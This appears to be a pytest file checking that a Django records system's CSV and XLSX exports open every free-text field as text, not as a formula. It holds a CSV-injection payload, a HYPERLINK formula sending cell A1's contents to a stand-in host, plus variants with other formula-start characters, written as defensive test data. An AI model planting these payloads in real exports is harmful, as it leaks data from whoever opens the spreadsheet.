"""Every CSV and XLSX export opens every free-text field as text (issue 17.2; socialgov.cells).

A year of a department's records (tests/audits/activity.py, with a photo, a captured comment, a legal hold, a
records request, an archive batch and the annual review) has every free-text column of every table set to a value
a spreadsheet would run: `=HYPERLINK("http://x/?"&A1)`, and, in a second run, the same behind `+`, `-`, `@`, a tab
or a carriage return (one per field, in turn). Then every export is taken the way a member takes it, in the browser
and through the API:

- the public-records package (its CSV files; the JSON beside them is not opened by a spreadsheet),
- the transfer archive of a disposition batch,
- the disposition batch's record list (CSV),
- the retention report as CSV and XLSX, at once and by the export job,
- the annual review as CSV.

No CSV cell may start with a formula character (a hostile one starts with an apostrophe and so opens as text), no
XLSX cell may be a formula, and the hostile value must come out, as text, in each export's free-text columns.
"""

import csv
import io
import zipfile
from datetime import timedelta
from itertools import cycle

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client, TestCase
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from platforms.models import CapturedPost, CapturedPostVersion
from posts import services as post_services
from posts.choices import PostStatus
from posts.media import upload_media
from posts.models import CapturedComment, Post, PostRevision, comment_sha256
from retention import disposition, exports, services
from retention.choices import BatchStatus
from retention.models import DispositionBatch, ReportExport
from retention.report import COLUMNS, ReportFilters, write_xlsx
from socialgov.cells import FORMULA_STARTS
from tests.audits import activity
from tests.conftest import make_account, make_member
from tests.retention.conftest import OLD_DAYS, make_posts, with_authority

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&A1)'
# Each way a spreadsheet starts a formula (OWASP "CSV injection"), given to the fields in turn.
VARIANTS = [
    HYPERLINK,
    "+" + HYPERLINK[1:],
    "-" + HYPERLINK[1:],
    "@" + HYPERLINK[1:],
    "\t" + HYPERLINK,
    "\r" + HYPERLINK,
]

# Apps whose tables hold what the exports carry.
APPS = ["people", "posts", "platforms", "screening", "approvals", "retention", "audits", "reviews"]
# Text columns that are not free text: keys the code looks records up by, values the system computes (hashes), the
# password hash, and the append-only audit trail's own columns (its free text, object_repr and actor_name, is
# written by the actions taken after the poisoning below).
NOT_FREE_TEXT = {
    "people.Department": {"slug"},
    "people.Member": {"password", "username"},
    "posts.Post": {"category"},
    "posts.Publication": {"channel"},
    "approvals.ApprovalRule": {"category"},
    "approvals.PostRequest": {"category"},
    "retention.RecordSeries": {"key"},
    "security.ApiToken": {"prefix", "key_hash"},
}
SKIPPED_MODELS = {"audits.AuditEvent", "audits.AuditChainHead", "audits.Checkpoint"}


def free_text_fields(model) -> list:
    label = model._meta.label
    if label in SKIPPED_MODELS:
        return []
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in NOT_FREE_TEXT.get(label, ())
        and "sha256" not in field.name
        and "hash" not in field.name
    ]


def poison(values) -> dict:
    """Set every free-text column of every row to a hostile value (ending in the row's id, for the columns that
    are unique in a department, and cut to the column's length, so it still starts the same way); returns
    {model label: [field names]}."""
    values = cycle(values)
    poisoned = {}
    for app in APPS:
        for model in apps.get_app_config(app).get_models():
            fields = free_text_fields(model)
            for pk in model.objects.values_list("pk", flat=True):
                model.objects.filter(pk=pk).update(
                    **{field.name: hostile(next(values), pk, field.max_length) for field in fields}
                )
                poisoned[model._meta.label] = [field.name for field in fields]
    return poisoned


def hostile(value: str, pk, max_length: int | None) -> str:
    suffix = f" {pk}"
    return value[: (max_length or 10**6) - len(suffix)] + suffix


def is_hostile(cell: str) -> bool:
    return any(cell.startswith("'" + value[:12]) for value in VARIANTS)


def csv_columns(name: str, data: bytes) -> set[str]:
    """Check one CSV: no cell opens as a formula. Returns the columns (header names) holding a hostile value."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"{name}: {formulas[:3]}"
    header, found = rows[0], set()
    for row in rows[1:]:
        for i, cell in enumerate(row):
            if is_hostile(cell):
                found.add(header[i] if i < len(header) else str(i))
    return found


def xlsx_columns(name: str, data: bytes) -> set[str]:
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    formulas = [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    assert not formulas, f"{name}: formula cells {formulas[:3]}"
    header, found = [cell.value for cell in rows[0]], set()
    for row in rows[1:]:
        for i, cell in enumerate(row):
            if isinstance(cell.value, str) and cell.value.startswith(tuple(value[:12] for value in VARIANTS)):
                assert cell.data_type == "s", f"{name}: {cell.coordinate} is {cell.data_type}"
                found.add(header[i])
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        for part in xlsx.namelist():
            if part.startswith("xl/worksheets/"):
                sheet_xml = xlsx.read(part).decode()
                assert "<f>" not in sheet_xml and "<f " not in sheet_xml, part
    return found


def package_columns(data: bytes) -> dict[str, set[str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: csv_columns(name, package.read(name)) for name in package.namelist() if name.endswith(".csv")}


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def review_columns(data: bytes) -> dict[str, set[str]]:
    """The review CSV is a run of tables, each a title row, a header row and its rows: columns per table."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"review csv: {formulas[:3]}"
    found: dict[str, set[str]] = {}
    title = header = None
    for i, row in enumerate(rows):
        if not row:
            title = header = None
        elif title is None and (i == 0 or not rows[i - 1]):
            title = row[0]
        elif header is None:
            header = row
        else:
            for j, cell in enumerate(row):
                if is_hostile(cell):
                    found.setdefault(title, set()).add(header[j] if title != "Annual review" else row[0])
    return found


# The free-text columns of each export: each must carry the hostile value (as text).
PACKAGE = {
    "posts.csv": {"status_note", "author_name"},
    "revisions.csv": {"body", "author_name"},
    "media.csv": {"original_name", "credit"},
    "publications.csv": {"external_id", "url", "removal_error"},
    "approvals.csv": {"note", "void_reason"},
    "investigations.csv": {"reason", "cause", "findings", "resolution"},
    "content_reports.csv": {"url", "description", "action_taken"},
    "comments.csv": {"platform_comment_id", "author_name", "text", "moderation_reason", "moderation_citation"},
    "captured_posts.csv": {"uri", "url", "author", "text", "cid"},
    "captured_post_versions.csv": {"cid", "text"},
    "flags.csv": {"detector", "rule", "citation", "excerpt", "message", "withdrawn_reason"},
    "overrides.csv": {"justification"},
    "removals.csv": {"reason"},
    "audit_events.csv": {"actor_name", "object_repr"},
}
REPORT = {"Series name", "Legal holds"}
REVIEW = {
    "Annual review": {"Department", "Reviewer", "Findings", "Recommendations", "Chief's note"},
    "Accounts": {"Handle", "Approved by"},
    "Authorized members": {"Member"},
    "Engagement per post": {"Text"},
    "Overrides": {"Justification", "By"},
    "Content reports": {"URL", "Description", "Action taken"},
    "Removals": {"Removed by", "Reason", "Cause", "Findings", "Resolution"},
    "Training expired in the period": {"Member"},
}


def assert_covers(found: dict, expected: dict):
    missing = {name: columns - found.get(name, set()) for name, columns in expected.items()}
    assert not {name: columns for name, columns in missing.items() if columns}, missing


@pytest.fixture
def records(tmp_path, settings):
    """The year's records, and what the custodian adds: a photo, a captured comment, a hold, a request, and old
    records past retention on an archive account (published ones go to the archive, drafts are destroyed)."""
    settings.MEDIA_ROOT = tmp_path / "media"
    from people.roles import Role
    from people.services import load_policy_pack

    department = load_policy_pack("oakley")[0]
    chief = make_member(department, "chief", Role.CHIEF, rank="Chief")
    world = activity.year(department, chief)
    world.review = activity.appoint_and_import(world)
    custodian = make_member(department, "custodian", Role.CUSTODIAN)
    fb = world.accounts["fb"]
    photo = upload_media(
        by=world.pio,
        rights_attested=True,
        credit="Oakley PD",
        upload=SimpleUploadedFile("parade.png", activity_png(), content_type="image/png"),
    )
    post = world.posts["jan"]
    PostRevision.objects.get(pk=post.current_revision_id).media.add(photo)
    when = timezone.now() - timedelta(days=3)
    CapturedComment.objects.create(
        department=department,
        account=fb,
        post=post,
        platform_comment_id="c-1",
        author_name="Lee Ortega",
        text="When does the lobby open?",
        posted_at=when,
        captured_at=when,
        captured_by=world.supervisor,
        moderation_reason="Kept",
        moderation_citation="IV.C",
        sha256=comment_sha256(
            platform=fb.platform,
            handle=fb.handle,
            platform_comment_id="c-1",
            author_name="Lee Ortega",
            text="When does the lobby open?",
            posted_at=when,
        ),
    )
    # A post captured from the account (platforms.CapturedPost), with its one version.
    captured = CapturedPost.objects.create(
        department=department,
        account=fb,
        uri="at://did:plc:oakley/app.bsky.feed.post/1",
        url="https://bsky.app/x",
        author="did:plc:oakley",
        posted_at=when,
        captured_at=when,
        text="Parade on Saturday",
        cid="cid-1",
        sha256="0" * 64,
        post=post,
    )
    CapturedPostVersion.objects.create(
        captured_post=captured,
        cid="cid-1",
        text="Parade on Saturday",
        record={"text": "Parade on Saturday"},
        sha256="0" * 64,
        captured_at=when,
    )
    services.place_hold(
        by=custodian, matter="Smith v. City of Oakley", reason="Litigation", requested_by="City", accounts=[fb]
    )
    request = services.open_request(
        by=custodian,
        requester="Oakley Press",
        received_on=timezone.localdate(),
        description="Every post on the page",
        accounts=[fb],
    )
    archive = make_account(department, "OakleyArchive", approved_by=chief)
    make_posts(department, world.pio, [archive], 2, status=PostStatus.PUBLISHED, age_days=OLD_DAYS)
    make_posts(department, world.pio, [archive], 2, age_days=OLD_DAYS)
    batch = disposition.propose(department=department)
    world.custodian, world.request, world.batch, world.photo = custodian, request, batch, photo
    return world


def activity_png() -> bytes:
    # The smallest PNG there is: a 1x1 transparent pixel.
    return bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6300010000000500010d0a2db40000000049454e44ae426082"
    )


def act_after_poisoning(world):
    """Actions whose audit events carry the poisoned text: a member whose name is hostile reports a post, and a
    photo whose file name is hostile is uploaded (the event's object_repr is the file name)."""
    post = Post.objects.get(pk=world.posts["jan"].pk)
    world.veteran.refresh_from_db()
    world.pio.refresh_from_db()
    post_services.report_content(by=world.veteran, post=post, description=HYPERLINK)
    # An uploaded file's name keeps only what follows its last slash.
    name = '=HYPERLINK("x?"&A1).png'
    photo = upload_media(
        by=world.pio,
        upload=SimpleUploadedFile(name, activity_png(), content_type="image/png"),
        rights_attested=True,
        credit=HYPERLINK,
    )
    PostRevision.objects.get(pk=post.current_revision_id).media.add(photo)


@pytest.mark.parametrize("values", [[HYPERLINK], VARIANTS], ids=["hyperlink", "every-formula-start"])
def test_every_export_opens_every_free_text_field_as_text(records, values):
    world = records
    poisoned = poison(values)
    assert {
        "posts.PostRevision",
        "posts.CapturedComment",
        "retention.LegalHold",
        "audits.AnnualReview",
        "approvals.FlagOverride",
        "people.Member",
    } <= set(poisoned)
    act_after_poisoning(world)
    custodian, chief = world.custodian, world.chief
    browser = {}
    for member in (custodian, chief):
        client = Client()
        client.force_login(member)
        browser[member.pk] = client
    api = APIClient()
    api.force_authenticate(user=custodian)
    chief_api = APIClient()
    chief_api.force_authenticate(user=chief)

    # The public-records package, in the browser and through the API.
    for response in (
        browser[custodian.pk].get(f"/retention/requests/{world.request.pk}/package/"),
        api.get(f"/api/v1/retention/requests/{world.request.pk}/package/"),
    ):
        assert_covers(package_columns(body(response)), PACKAGE)

    # The retention report, at once, as CSV and XLSX, in the browser and through the API.
    for response in (
        browser[custodian.pk].get("/retention/report/export/", {"format": "csv"}),
        api.get("/api/v1/retention/report/", {"format": "csv"}),
    ):
        assert csv_columns("report.csv", body(response)) >= REPORT
    for response in (
        browser[custodian.pk].get("/retention/report/export/", {"format": "xlsx"}),
        api.get("/api/v1/retention/report/", {"format": "xlsx"}),
    ):
        assert xlsx_columns("report.xlsx", body(response)) >= REPORT

    # ... and by the export job.
    for format, check in (("csv", csv_columns), ("xlsx", xlsx_columns)):
        with TestCase.captureOnCommitCallbacks(execute=True):
            export = exports.create_export(by=custodian, format=format, filters=ReportFilters())
        export = ReportExport.objects.get(pk=export.pk)
        assert check(f"export.{format}", body(api.get(f"/api/v1/retention/exports/{export.pk}/download/"))) >= REPORT
        assert (
            check(f"export.{format}", body(browser[custodian.pk].get(f"/retention/exports/{export.pk}/download/")))
            >= REPORT
        )

    # The annual review, in the browser and through the API.
    for response in (
        browser[chief.pk].get(f"/reviews/{world.review.pk}/report.csv"),
        chief_api.get(f"/api/v1/reviews/{world.review.pk}/csv/"),
    ):
        assert_covers(review_columns(body(response)), REVIEW)

    # The disposition batch: its record list, then the transfer archive written when it is carried out.
    batch = world.batch
    csv_columns("batch.csv", body(browser[custodian.pk].get(f"/retention/batches/{batch.pk}/records.csv")))
    with_authority(batch)
    with TestCase.captureOnCommitCallbacks(execute=True):
        disposition.approve(by=custodian, batch=batch)
    batch = DispositionBatch.objects.get(pk=batch.pk)
    assert batch.status == BatchStatus.COMPLETED
    with batch.transfer_archive.file.open("rb") as archive:
        found = package_columns(archive.read())
    assert {"posts.csv", "revisions.csv"} <= set(found)
    assert {"status_note", "author_name"} <= found["posts.csv"] and {"body"} <= found["revisions.csv"]
    csv_columns("batch.csv", body(browser[custodian.pk].get(f"/retention/batches/{batch.pk}/records.csv")))


def test_a_control_character_does_not_fail_the_xlsx(tmp_path):
    """XML cannot hold most control characters; a captured comment or a hold's matter carrying one is shown with
    U+FFFD rather than failing the custodian's export."""
    row = dict.fromkeys(COLUMNS, "") | {"series_name": "Bell\x07 =1", "holds": "=1\x01+1"}
    path = tmp_path / "report.xlsx"
    write_xlsx([row], str(path))
    cells = [cell for row in load_workbook(path).active.iter_rows(min_row=2) for cell in row]
    assert [cell.value for cell in cells if cell.value] == ["Bell\ufffd =1", "=1\ufffd+1"]
    assert all(cell.data_type == "s" for cell in cells if cell.value)
